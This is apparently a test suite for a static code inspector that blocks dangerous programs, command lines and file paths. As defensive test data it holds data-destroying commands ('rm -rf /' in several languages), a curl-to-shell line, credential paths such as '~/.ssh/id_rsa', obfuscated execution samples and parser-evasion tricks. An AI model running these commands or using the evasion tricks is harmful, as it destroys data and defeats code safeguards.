# SPDX-License-Identifier: Apache-2.0
"""Static inspection as users meet it: blocked runs, warnings, check, rules, explain."""
import json
import os

from harness import EXTENSION, ROOT, Failed, brig_path, case, is_root

ON = {"BRIG_INSPECTION": "guard"}
# Something that each language's rules block at guard and strict, for it is meant to harm; it says so if it runs after all.
BLOCKED = {
	"python": "print('it ran')\nimport subprocess\nsubprocess.run(['rm', '-rf', '/'])\n",
	"javascript": "console.log('it ran');\nrequire('child_process').execSync('rm -rf /');\n",
	"typescript": "console.log('it ran');\nimport { execSync } from 'child_process';\nexecSync('rm -rf /');\n",
	"go": "package main\n\nimport \"os/exec\"\n\nfunc main() {\n\tprintln(\"it ran\")\n\texec.Command(\"rm\", \"-rf\", \"/\").Run()\n}\n",
	"shell": "echo it ran\nrm -rf /\n",
}
HARMLESS = {
	"python": "print(sum(range(10)))\n",
	"javascript": "console.log([1, 2, 3].map(x => x * x).join());\n",
	"typescript": "const n: number = 45;\nconsole.log(n);\n",
	"go": "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(45) }\n",
	"shell": "for i in 1 2 3; do echo $((i * i)); done\n",
}
RULES = """
- id: house-rule
  languages: [python]
  kind: module
  names: [frobnicate]
  severity: CRITICAL
  message: does what nobody knows
  remedy: say what is meant
  match: ["import frobnicate"]
  no_match: ["frobnicate = 1"]
"""


def check(t, *words, **kw):
	"""`brig check --json` of one text: (exit status, document)."""
	p = t.brig("check", "--json", *words, **kw)
	try:
		return p.rc, json.loads(p.out)
	except ValueError:
		raise Failed(f"no document: {p}") from None


def rules_of(document, *severities):
	return {f["rule"] for f in document["findings"] if not severities or f["severity"] in severities}


def runtime_is_there(t, lang):
	rows = json.loads(t.brig("languages", "--json").out)["languages"]
	if not next(row for row in rows if row["name"] == lang)["installed"]:
		t.skip(f"no runtime for {lang}")


# ---- runs ----------------------------------------------------------------------------------------

def blocked_run(lang):
	def run(t):
		r = t.verdict(t.cell(code=BLOCKED[lang], lang=lang, env=ON), "blocked")
		t.equal(r.stdout + r.stderr, b"", "output of a program that must not run", r)
		t.equal((r.json["evidence"], r.json["samples"], r.json["exit_code"], r.json["step"]), ([], [], None, None),
			"traces of a run", r)
		worst = [f for f in r.json["findings"] if f["severity"] == "CRITICAL"]
		t.check(worst, "the result carries the findings", r)
		t.check(r.reason.startswith(f"{worst[0]['rule']} at line {worst[0]['line']}: "), "the reason names rule and line", r)
		t.check(worst[0]["message"] and worst[0]["remedy"], "a finding says why and what to do", worst[0])
	return run


def harmless_run(lang):
	def run(t):
		runtime_is_there(t, lang)
		r = t.verdict(t.cell(code=HARMLESS[lang], lang=lang, env=ON), "ok")
		t.equal([f for f in r.json["findings"] if f["severity"] in ("HIGH", "CRITICAL")], [], "findings", r)
		t.check(r.stdout, "it ran", r)
	return run


for LANG in BLOCKED:
	run = blocked_run(LANG)
	run.__name__ = f"blocked_{LANG}"
	case(f"{LANG}: a blocking finding ends the run before anything starts")(run)
	run = harmless_run(LANG)
	run.__name__ = f"harmless_{LANG}"
	case(f"{LANG}: harmless code runs without remarks")(run)


@case("blocking findings are shown on stderr with their place, and the exit status is 126")
def blocked_on_stderr(t):
	p = t.run(t.run_args(t.path("evil.py", BLOCKED["python"])), env=ON)
	t.equal((p.rc, p.out), (126, b""), "status and output", p)
	t.check(b"evil.py:3:" in p.err and b"brig: blocked: " in p.err, "place and verdict are said", p)


@case("warnings are on stderr and in the result, and the program runs")
def warnings(t):
	rules = t.path("rules.yaml", RULES.replace("CRITICAL", "HIGH"))
	env = {**ON, "BRIG_RULES_FILE": rules}
	code = "x = 1\ntry:\n    import frobnicate\nexcept ImportError:\n    pass\nprint('it ran')\n"
	path = t.path("warn.py", code)
	p = t.run(t.run_args(path), env=env)
	t.equal((p.rc, p.out), (0, b"it ran\n"), "status and output", p)
	t.check(b"warning: warn.py:3:" in p.err and b"[house-rule]" in p.err, "the warning has its place", p)
	r = t.verdict(t.cell(path, env=env), "ok")
	t.check("house-rule" in rules_of(r.json, "HIGH"), "the finding is in the result", r)
	t.check(r.json["timing"]["inspect_ms"] > 0, "the inspection is timed", r)


@case("under a policy file a request below trusted cannot switch the inspection off")
def cannot_be_switched_off(t):
	path = t.path("evil.py", BLOCKED["python"])
	policy = t.path("sandbox.yaml", "mem_limit: 512m\n")
	for words in (["--no-inspect"], ["--set", "inspection=off"]):
		for trust in ([], ["--trust", "unknown"], ["--trust", "untrusted"]):
			t.verdict(t.cell("--policy", policy, *trust, *words, path, env=ON), "refused")
	p = t.run(t.run_args("--set", f"rules_file={path}", "--trust", "trusted", path), env=ON)
	t.equal(p.rc, 125, "a request that brings its own rules", p)


@case("a trusted request may switch the inspection off")
def trusted_may(t):
	path = t.path("canary.py", "# \x1b[31m\nprint('it ran')\n")
	r = t.verdict(t.cell("--trust", "trusted", "--no-inspect", path, env=ON), "ok")
	t.equal((r.stdout, r.json["findings"]), (b"it ran\n", []), "output and findings", r)
	t.check(t.cell("--trust", "trusted", path, env=ON).json["findings"], "with it there are remarks")


@case("C has no inspector, and says so when asked")
def no_inspector(t):
	status, document = check(t, t.path("x.c", "int main(void) { return 0; }\n"))
	t.equal((status, document["inspected"], document["findings"]), (0, False, []), "status, inspected, findings", document)
	p = t.brig("check", t.path("x.c"))
	t.check(b"not inspected" in p.out, "people are told", p)


# ---- what hides behind an error-free tree ---------------------------------------------------------------

# name: language, file name, code.  Each prints "it ran" by means that are to be blocked, where the parser sees none.
HIDDEN = {
	"lone_cr": ("python", "p.py", b"# harmless\rimport os; os.system('echo it ran')\n"),
	"coding_cookie": ("python", "p.py", b"# coding: utf-7\n# harmless +AAo-import os; os.system('echo it ran')\n"),
	"hashbang_cr": ("javascript", "p.js",
			b"#!/usr/bin/node\reval(\"console.log('it ran')\");\n"),
	"hashbang_ls": ("javascript", "p.js",
			"#!/usr/bin/node\u2028eval(\"console.log('it ran')\");\n".encode()),
	"await_name": ("javascript", "p.cjs", b"var await = 1, g = 1;\n"
		       b"await /eval(\"console.log('it ran')\")/g;\n"),
	"yield_name": ("javascript", "p.cjs", b"var yield = 1, g = 1;\n"
		       b"yield /eval(\"console.log('it ran')\")/g;\n"),
	"backticks": ("shell", "p.sh", b"echo ${x:-`rm -rf /usr/share/none; echo it ran`}\n"),
	"pattern": ("shell", "p.bash", b"x=a; echo ${x#$(rm -rf /usr/share/none; echo it ran >&2)}\n"),
	"here_document": ("shell", "p.sh", b"cat <<END\n`rm -rf /usr/share/none; echo it ran`\nEND\n"),
}


def hidden_code(name):
	def run(t):
		lang, file_name, code = HIDDEN[name]
		runtime_is_there(t, lang)
		path = t.path(file_name, code)
		r = t.cell("--timeout", t.secs(10), path)
		t.check(b"it ran" in r.stdout + r.stderr, "the engine runs the hidden code when nobody looks", r)
		r = t.verdict(t.cell(path, env=ON), "blocked")
		t.equal(r.stdout + r.stderr, b"", "output", r)
	run.__name__ = f"hidden_{name}"
	return run


for NAME in HIDDEN:
	case(f"{NAME.replace('_', ' ')}: code that the engine sees and a parser does not is blocked")(hidden_code(NAME))


# ---- rules of the user ----------------------------------------------------------------------------------

@case("rules of the user are added to the built-in ones")
def own_rules(t):
	rules, code = t.path("rules.yaml", RULES), t.path("x.py", "import frobnicate\n")
	t.equal(check(t, code)[0], 0, "status without the file")
	status, document = check(t, "--rules", rules, code)
	t.equal((status, rules_of(document, "CRITICAL")), (2, {"house-rule"}), "status and rules", document)
	t.check(document["findings"][0]["remedy"].startswith("say what is meant; to permit this: "), "remedy")
	t.equal(check(t, "--rules", rules, t.path("evil.py", BLOCKED["python"]))[0], 2, "status for a built-in rule")
	p = t.brig("explain", "--rules", rules, "house-rule")
	t.check(p.rc == 0 and b"import frobnicate" in p.out and b"rules.yaml" in p.out, "it can be explained", p)
	r = t.verdict(t.cell(code, env={**ON, "BRIG_RULES_FILE": rules}), "blocked")
	t.check("house-rule" in r.reason, "the operator's rules hold for runs", r)


BAD_RULES = {
	"unknown member": (RULES.replace("  kind: module", "  kinds: module"), 4),
	"unknown kind": (RULES.replace("kind: module", "kind: wish"), 4),
	"unknown severity": (RULES.replace("CRITICAL", "FATAL"), 6),
	"an example that does not match": (RULES.replace('match: ["import frobnicate"]', 'match: ["import math"]', 1), 9),
	"an example that must not match": (RULES.replace('no_match: ["frobnicate = 1"]', 'no_match: ["import frobnicate"]'), 10),
	"no YAML": ("- id: [\n", 2),
}


@case("a bad rule is refused with its line, by check and by run")
def bad_rules(t):
	code = t.path("x.py", "print(1)\n")
	for name, (text, line) in BAD_RULES.items():
		rules = t.path("rules.yaml", text)
		p = t.brig("check", "--rules", rules, code)
		t.equal(p.rc, 125, f"status for {name}", p)
		places = [f"rules.yaml:{n}" for n in range(1, line + 2)]
		t.check(any(place in p.text() for place in places), f"{name}: the place is named", p)
	r = t.verdict(t.cell(code, env={**ON, "BRIG_RULES_FILE": rules}), "refused")
	t.check("rules.yaml:" in r.reason, "the place is named", r)
	t.equal(t.brig("check", "--rules", t.path("none.yaml"), code).rc, 125, "status for a file that is not there")


# ---- check ----------------------------------------------------------------------------------------------

@case("check: 0 clean, 1 warnings, 2 blocked, 64 wrong use")
def exit_codes(t):
	rules = t.path("rules.yaml", RULES.replace("severity: CRITICAL", "severity: {strict: CRITICAL, guard: HIGH, report: LOW}"))
	path = t.path("x.py", "import frobnicate\n")
	for trust, status in (("trusted", 0), ("unknown", 1), ("untrusted", 2)):
		t.equal(check(t, "--rules", rules, "--trust", trust, path)[0], status, f"status at {trust}")
		t.equal(t.brig("check", "--rules", rules, "--trust", trust, path).rc, status, f"status of the text at {trust}")
	for words in ([], ["--nope", path], ["--format", "xml", path], ["--kind", "wish", "--", "x"], ["--kind", "path"],
		      ["--lang", "cobol", path], ["--trust", "vip", path], [t.path("none.py")], [path, "--", "x"],
		      ["-c", "pass", path]):
		t.equal(t.brig("check", *words).rc, 64, f"status of check {words}")
	t.equal(t.brig("check", "--help").rc, 0, "status of --help")


# Nothing in these harms; each takes pains that nobody sees what is started.
HIDING = {
	"python": "import operator, os\noperator.methodcaller('system', 'ls')(os)\n",
	"javascript": "['child_process'].map(require)[0].execSync('ls')\n",
	"typescript": "enum M { A = 'child_', B = 'process' }\nrequire(M.A + M.B).execSync('ls');\n",
	"go": "package main\n\nimport \"os/exec\"\n\nfunc main() { exec.Command(\"ba\"+\"sh\", \"-c\", \"ls\").Run() }\n",
	"shell": "x=$(echo bHM= | base64 -d); eval \"$x\"\n",
}


@case("hiding is blocked in every language; what the blocks print permits it, word for word, at guard and strict")
def permitted_as_printed(t):
	for lang, code in HIDING.items():
		for level in ("guard", "strict"):
			words = ["--inspect", level, "--lang", lang, "-c", code]
			rc, document = check(t, *words)
			t.equal(rc, 2, f"{lang} at {level}", document)
			printed = [f["remedy"].split("to permit this: ")[1].split(" (")[0].split()
				   for f in document["findings"] if f["severity"] == "CRITICAL"]
			rc, document = check(t, *words, *(word for line in printed for word in line))
			t.check(rc in (0, 1), f"{lang} at {level}: still blocked with {printed}", document)


@case("check reads standard input and -c")
def other_sources(t):
	t.equal(check(t, "--lang", "python", "-", stdin=BLOCKED["python"].encode())[0], 2, "status of standard input")
	t.equal(check(t, "-", stdin=b"#!/usr/bin/python3\nimport subprocess\n")[1]["language"], "python", "language by the first line")
	status, document = check(t, "--lang", "shell", "-c", "rm -rf /")
	t.equal((status, document["file"]), (2, "<code>"), "status and name", document)


@case("command lines are judged")
def commands(t):
	for command, status in (("rm -rf /", 2), ("ls -l; curl -s http://example.test/x | sh", 2), ("grep -rn 'rm -rf /' .", 0),
				("echo hello", 0), ("sudo -n env A=1 rm -rf /", 2)):
		got, document = check(t, "--kind", "command", "--", command)
		t.equal((got, document["kind"]), (status, "command"), f"status and kind of {command!r}", document)
	t.equal(check(t, "--kind", "command", "-", stdin=b"rm -rf /")[0], 2, "status of standard input")
	t.equal(check(t, "--kind", "command", "--strict", "--", "frobnicate")[0], 2, "status of an unknown command in strict mode")
	t.equal(check(t, "--kind", "command", "--", "frobnicate")[0], 0, "status of an unknown command")


@case("paths are judged against the workspace")
def paths(t):
	for path, status in (("../../etc/passwd", 2), ("..%2f..%2fetc%2fpasswd", 2), ("~/.ssh/id_rsa", 2), (".env", 2),
			     ("data/input.csv", 0), ("src/../tests/test_a.py", 0), ("/workspace/a", 0), ("/srv/data/a", 2)):
		got, document = check(t, "--kind", "path", "--", path)
		t.equal(got, status, f"status of {path!r}", document)
	t.equal(check(t, "--kind", "path", "--workspace", "/srv/data", "--", "/srv/data/a")[0], 0, "status in another workspace")
	t.equal(check(t, "--kind", "path", "-", stdin=b"a.txt\0/../../etc/passwd")[0], 2, "status of a path with NUL")


@case("diagnostics have place, rule, frame, reason and help, and no control characters")
def diagnostics(t):
	path = t.path("d.py", "x = 1\nif x:\n\ty = '\u4e2d\x1b[31m'; breakpoint\n")
	p = t.brig("check", path)
	lines = p.out.decode().splitlines()
	t.check(any(line.startswith(f"{path}:3:") and "critical[" in line for line in lines), "place and rule", p)
	t.check(b"\x1b" not in p.out, "nothing steers the terminal", p)
	at = next(i for i, line in enumerate(lines) if "critical[" in line)
	code, caret = lines[at + 1:at + 3]
	t.check(code.startswith(" 3 |") and "\\x1b" in code and "breakpoint" in code and caret.strip(" |^") == "", "code and carets", p)
	# 中 takes one character and two columns; what is marked ends where the statement ends.
	t.equal(caret.rindex("^"), len(code), "column of the last caret", p)
	t.check(any("= why: CRITICAL blocks the run" in line for line in lines) and any("= help: " in line for line in lines),
		"why and help", p)
	t.check(lines[-1].startswith("brig: ") and "blocking" in lines[-1], "a summary", p)


@case("a folder: known extensions only, links not followed, fetched code left out")
def folder(t):
	for name in ("a", "a/node_modules", "a/.git", "a/sub"):
		os.mkdir(t.path(name))
	evil = t.path("outside.py", BLOCKED["python"])
	for name in ("a/node_modules/x.js", "a/.git/x.py"):
		t.path(name, "import subprocess\n")
	t.path("a/notes.txt", "import subprocess\n")
	t.path("a/good.py", HARMLESS["python"])
	os.symlink(evil, t.path("a/link.py"))
	os.symlink(t.dir, t.path("a/sub/up"))
	os.mkfifo(t.path("a/pipe.py"))
	p = t.brig("check", "--json", t.path("a"))
	t.equal((p.rc, [os.path.basename(json.loads(line)["file"]) for line in p.out.splitlines()]), (0, ["good.py"]),
		"status and files", p)
	t.path("a/sub/evil.py", BLOCKED["python"])
	p = t.brig("check", "--json", t.path("a"))
	t.equal((p.rc, [os.path.basename(json.loads(line)["file"]) for line in p.out.splitlines()]), (2, ["good.py", "evil.py"]),
		"status and files", p)
	if not is_root():
		os.chmod(t.path("a/sub/evil.py"), 0)
		t.equal(t.brig("check", t.path("a")).rc, 64, "status when a file cannot be read")


@case("SARIF has what the standard requires")
def sarif(t):
	path = t.path("a b\u00e9.py", BLOCKED["python"])
	p = t.brig("check", "--format", "sarif", path)
	log = json.loads(p.out)
	t.equal((p.rc, log["version"], len(log["runs"])), (2, "2.1.0", 1), "status, version, runs", p)
	run = log["runs"][0]
	driver = run["tool"]["driver"]
	t.equal(driver["name"], "brig", "tool")
	t.equal(len({r["id"] for r in driver["rules"]}), len(driver["rules"]), "rules are listed once")
	t.check(run["results"], "there are results", p)
	for result in run["results"]:
		t.equal(driver["rules"][result["ruleIndex"]]["id"], result["ruleId"], "rule at its index")
		t.check(result["message"]["text"] and result["level"] in ("error", "warning", "note"), "message and level", result)
		place = result["locations"][0]["physicalLocation"]
		t.check(place["artifactLocation"]["uri"].endswith("/a%20b%C3%A9.py"), "the name is a URI", place)
		region = place["region"]
		t.check((1, 1) <= (region["startLine"], region["startColumn"]) <= (region["endLine"], region["endColumn"]), "region", region)
	for rule in driver["rules"]:
		t.check(rule["shortDescription"]["text"], "each rule has its words", rule)
	empty = json.loads(t.brig("check", "--format", "sarif", t.path("ok.py", HARMLESS["python"])).out)
	t.equal(empty["runs"][0]["results"], [], "results of harmless code")


@case("rules lists every rule, explain shows each of them")
def rules_and_explain(t):
	rows = json.loads(t.brig("rules", "--json").out)["rules"]
	t.check(len(rows) > 30, "there are rules", len(rows))
	t.equal(len({row["id"] for row in rows}), len(rows), "ids are unique")
	table = t.brig("rules").out.decode()
	for row in rows:
		t.check(row["id"] in table, f"{row['id']} is in the table")
		t.equal(set(row["severity"]), {"strict", "guard", "report"}, f"levels of {row['id']}")
	for lang in ("python", "javascript", "typescript", "go", "shell", "path"):
		some = json.loads(t.brig("rules", "--lang", lang, "--json").out)["rules"]
		t.check(some and all(lang in row["languages"] for row in some), f"rules for {lang}")
	one = next(row for row in rows if row["match"])
	p = t.brig("explain", one["id"])
	t.check(p.rc == 0 and one["match"][0].splitlines()[0] in p.out.decode(), "an example is shown", p)
	p = t.brig("explain", one["id"] + "x")
	t.check(p.rc == 2 and one["id"].encode() in p.err, "a near name is suggested", p)
	t.equal(t.brig("rules", "--lang", "cobol").rc, 2, "status for a language without rules")


@case("a large or broken text is a finding, not a failure")
def odd_texts(t):
	text = b"x = 1\n" * 400000
	status, document = check(t, "--lang", "python", "-", stdin=text)
	t.equal((status, document["blocked"]), (1, False), "status of 2.4 MB at guard", document["findings"][:1])
	status, document = check(t, "--trust", "untrusted", "--lang", "python", "-", stdin=text)
	t.equal((status, document["blocked"]), (2, True), "status of 2.4 MB at strict", document["findings"][:1])
	for text in (b"\xff\xfe\x00", b"x\0y", b"(" * 100000, b""):
		for lang in EXTENSION:
			status, document = check(t, "--lang", lang, "-", stdin=text)
			t.check(status in (0, 1, 2), f"status of {text[:10]!r} as {lang}", document)


@case("inspect-score counts what is right and what is not")
def score(t):
	rows = [("python", "print(1)", "allow"), ("python", "breakpoint()", "allow"), ("python", "breakpoint()", "block"),
		("python", "breakpoint()", "warn"), ("python", "print(1)", "block"), ("bash", "rm -rf /", "block"),
		("path", "../../etc/passwd", "block"), ("path", "a.txt\0/../../etc/passwd", "block")]
	lines = [json.dumps({"id": f"row-{i}", "language": lang, "code": code, "expect": expect})
		 for i, (lang, code, expect) in enumerate(rows)]
	os.mkdir(t.path("sets"))
	t.path("sets/one.jsonl", "\n".join(lines) + "\n")
	tool = [os.path.join(ROOT, "tools", "inspect-score"), t.path("sets"), "--brig", brig_path()]
	p = t.run([*tool, "--json"])
	t.equal(p.rc, 0, "status", p)
	table = {row["language"]: row for row in json.loads(p.out)}
	python = table["python"]
	t.equal((python["rows"], python["right"], python["block recall"], python["benign blocked"]), (5, 3, 50.0, 50.0),
		"rows, right, recall, benign blocked", p)
	t.equal((table["bash"]["right"], table["path"]["right"]), (1, 2), "right rows of shell and path", p)
	p = t.run([*tool, "--wrong"])
	t.check(b"row-1 python: expected allow, got block" in p.out and b"row-4 python: expected block, got allow" in p.out
		and b"row-0" not in p.out, "wrong rows are listed", p)
